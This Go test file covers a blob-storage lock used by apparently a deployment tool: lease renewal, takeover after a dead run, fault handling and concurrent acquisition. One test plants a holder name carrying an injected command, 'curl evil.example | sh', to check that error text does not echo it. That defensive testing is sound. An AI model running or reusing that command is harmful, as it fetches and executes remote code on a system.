package blob_test

import (
	"context"
	"errors"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/seatwright/seatwright/plan/apply/journal"
	"github.com/seatwright/seatwright/plan/apply/journal/blob/blobtest"
)

func wantLocked(t *testing.T, r *runner, run, by string) {
	t.Helper()
	lock, err := r.Acquire(t.Context(), tenant, holder(run))
	locked, ok := errors.AsType[*journal.LockedError](err)
	if !ok || locked.Holder.Run != by || locked.Tenant != tenant {
		t.Fatalf("got %v, %v, want a lock of %s", lock, err, by)
	}
}

func wantLost(t *testing.T, lock journal.Lock, why string) {
	t.Helper()
	err := lock.Renew()
	if _, lost := errors.AsType[*journal.LostError](err); !lost || !strings.Contains(err.Error(), why) {
		t.Errorf("Renew gave %v, want a LostError about %q", err, why)
	}
}

// TestLockOfALiveRunIsKept has hours between two batches.
func TestLockOfALiveRunIsKept(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		service := &blobtest.Service{}
		first, second := newRunner(t, service), newRunner(t, service)
		lock := first.acquire(t, run)
		for range 100 {
			time.Sleep(97 * time.Second) //nolint:forbidigo // of fake time
			wantLocked(t, second, other, run)
		}
		must(t, lock.Renew())
		must(t, lock.Release())
		must(t, second.acquire(t, other).Release())
	})
}

// TestLockIsKeptAfterASignal has a run that needs long to finish what is in flight.
func TestLockIsKeptAfterASignal(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		service := &blobtest.Service{}
		ctx, signal := context.WithCancel(t.Context())
		lock, err := newRunner(t, service).Acquire(ctx, tenant, holder(run))
		must(t, err)
		signal()
		time.Sleep(10 * time.Minute) //nolint:forbidigo // of fake time
		wantLocked(t, newRunner(t, service), other, run)
		must(t, lock.Renew())
		must(t, lock.Release())
	})
}

// TestLockOfADeadRunEndsByTheClockOfTheService cuts a run off, whose lease ends a minute
// after its last renewal. Then it lets the run continue.
func TestLockOfADeadRunEndsByTheClockOfTheService(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		service := &blobtest.Service{}
		first, second := newRunner(t, service), newRunner(t, service)
		lock := first.acquire(t, run)
		time.Sleep(7*time.Minute + time.Second) //nolint:forbidigo // of fake time; the last beat is a second ago
		first.dead.Store(true)
		time.Sleep(58 * time.Second) //nolint:forbidigo // likewise
		wantLocked(t, second, other, run)
		time.Sleep(2 * time.Second) //nolint:forbidigo // likewise
		took := second.acquire(t, other)
		if dead := took.TakenOverFrom(); dead == nil || dead.Run != run {
			t.Errorf("it was taken over from %v, want %s", dead, run)
		}
		wantLost(t, lock, "no route to host")
		first.dead.Store(false)
		wantLost(t, lock, "run "+other+" holds the lock")
		must(t, took.Renew())
		must(t, lock.Release()) // this keeps the lock of the other run
		must(t, took.Renew())
		must(t, took.Release())
	})
}

// TestRenewFailsInTime has a service that is slow, busy or unreachable.
func TestRenewFailsInTime(t *testing.T) {
	t.Parallel()
	for name, fault := range map[string]blobtest.Fault{
		"slow": {Delay: time.Hour, Drop: true}, "busy": {Status: 503, Code: "ServerBusy"}, "away": {Drop: true}, "forbidden": {Status: 403, Code: "AuthorizationPermissionMismatch"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			synctest.Test(t, func(t *testing.T) {
				var trouble atomic.Bool
				service := &blobtest.Service{Faults: func(*http.Request) blobtest.Fault {
					if trouble.Load() {
						return fault
					}
					return blobtest.Fault{}
				}}
				lock := newRunner(t, service).acquire(t, run)
				trouble.Store(true)
				began := time.Now()
				wantLost(t, lock, "renew the lock")
				if took := time.Since(began); took > 40*time.Second { // one renewal of its own, and one that was under way
					t.Errorf("it failed after %s", took)
				}
				trouble.Store(false)
				must(t, lock.Renew()) // no other run locked the tenant meanwhile: the service decides
				must(t, lock.Release())
			})
		})
	}
}

// TestLockIsKeptIfAnswersAreLost loses the answer of each request in turn.
func TestLockIsKeptIfAnswersAreLost(t *testing.T) {
	t.Parallel()
	for n := range 9 {
		synctest.Test(t, func(t *testing.T) {
			seen := 0
			service := &blobtest.Service{Faults: func(*http.Request) blobtest.Fault {
				seen++
				return blobtest.Fault{Drop: seen == n+1, Effect: true}
			}}
			r := newRunner(t, service)
			lock := r.acquire(t, run)
			must(t, lock.Renew())
			wantLocked(t, newRunner(t, service), other, run)
			must(t, lock.Renew())
			must(t, lock.Release())
			if data := service.Data("runs", journal.LockName(tenant)); data != nil {
				t.Errorf("with answer %d lost the lock is left as %q", n+1, data)
			}
		})
	}
}

// TestAcquireByManyRunnersAtOnce has eight runners lock one tenant. Exactly one of them
// gets the lock.
func TestAcquireByManyRunnersAtOnce(t *testing.T) {
	t.Parallel()
	service := &blobtest.Service{}
	got := make(chan journal.Lock, 8)
	for i := range cap(got) {
		r := newRunner(t, service)
		go func() {
			lock, err := r.Acquire(t.Context(), tenant, holder(run[:len(run)-1]+string(rune('a'+i))))
			if _, locked := errors.AsType[*journal.LockedError](err); err != nil && !locked {
				t.Error(err)
			}
			got <- lock
		}()
	}
	holders := 0
	for range cap(got) {
		if lock := <-got; lock != nil {
			holders++
			must(t, lock.Renew())
			t.Cleanup(func() { must(t, lock.Release()) })
		}
	}
	if holders != 1 {
		t.Errorf("%d runners have the lock", holders)
	}
}

// TestAcquireDoesNotQuoteAnInvalidHolder has another writer change the holder of the lock.
func TestAcquireDoesNotQuoteAnInvalidHolder(t *testing.T) {
	t.Parallel()
	for written, want := range map[string]string{
		`{"run":"x; curl evil.example | sh","host":"h","boot":"","pid":1,"since":"2026-11-23T08:00:00Z"}`:        "",
		`{"run":"` + run + `","host":"h\nexit_reason: ok (0)","boot":"","pid":1,"since":"2026-11-23T08:00:00Z"}`: run,
	} {
		service := &blobtest.Service{}
		lock := newRunner(t, service).acquire(t, run)
		service.Overwrite("runs", journal.LockName(tenant), []byte(written))
		_, err := newRunner(t, service).Acquire(t.Context(), tenant, holder(other))
		locked, is := errors.AsType[*journal.LockedError](err)
		if !is || locked.Holder.Run != want || strings.ContainsAny(err.Error()+locked.Hint(), "\n|") {
			t.Errorf("%s: got %v (%v)", written, err, locked)
		}
		must(t, lock.Release())
	}
}

// TestUnlockKeepsTheLockOfAnotherRun has another run acquire the lock while it is being
// removed.
func TestUnlockKeepsTheLockOfAnotherRun(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		service := &blobtest.Service{}
		first, second, admin := newRunner(t, service), newRunner(t, service), newRunner(t, service)
		dead := first.acquire(t, run)
		first.dead.Store(true)
		var lock journal.Lock
		service.Faults = func(req *http.Request) blobtest.Fault {
			if req.URL.Query().Get("comp") == "lease" && strings.Contains(headerOf(req, "x-ms-lease-action"), "break") && lock == nil {
				service.Faults = nil
				time.Sleep(2 * time.Minute) //nolint:forbidigo // of fake time: the dead one's lease ends
				lock = second.acquire(t, other)
			}
			return blobtest.Fault{}
		}
		if _, _, err := admin.Unlock(t.Context(), run); err != nil {
			t.Fatal(err)
		}
		must(t, lock.Renew())
		first.dead.Store(false)
		wantLost(t, dead, "run "+other+" holds the lock")
		must(t, dead.Release())
		must(t, lock.Release())
	})
}

func headerOf(req *http.Request, name string) string {
	for key, values := range req.Header {
		if strings.EqualFold(key, name) {
			return values[0]
		}
	}
	return ""
}
